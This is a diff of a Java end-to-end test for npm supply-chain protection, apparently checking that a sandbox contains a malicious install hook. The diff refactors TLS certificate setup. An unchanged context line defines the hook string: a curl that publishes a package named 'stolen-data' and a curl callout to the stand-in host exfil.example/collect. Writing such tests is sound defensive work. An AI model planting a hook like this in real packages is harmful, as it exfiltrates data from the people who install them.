@@ -42,11 +42,10 @@ class NpmSupplyChainE2eTest {
     void start() throws Exception {
         dir = Files.createTempDirectory("berth-npm-e2e-");
         Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwx--x--x"));
-        TestPki pki = TestPki.create();
-        Path cert = dir.resolve("server.crt");
-        Path key = dir.resolve("server.key");
-        pki.writeServerPem(cert, key, "localhost");
-        Path root = pki.writeCaPem(dir.resolve("test-root.pem"));
+        TestPki.LocalhostFiles tls = TestPki.localhost(dir);
+        Path cert = tls.cert();
+        Path key = tls.key();
+        Path root = tls.root();
         String hook = "curl -sS -m 20 -X PUT -H 'content-type: application/json' --data '{\"name\":\"stolen-data\",\"versions\":{}}'"
                 + " https://localhost:%PORT%/stolen-data > /workspace/hook-publish.txt 2>&1;"
                 + " curl -sS -m 20 https://exfil.example/collect > /workspace/hook-callout.txt 2>&1; true";
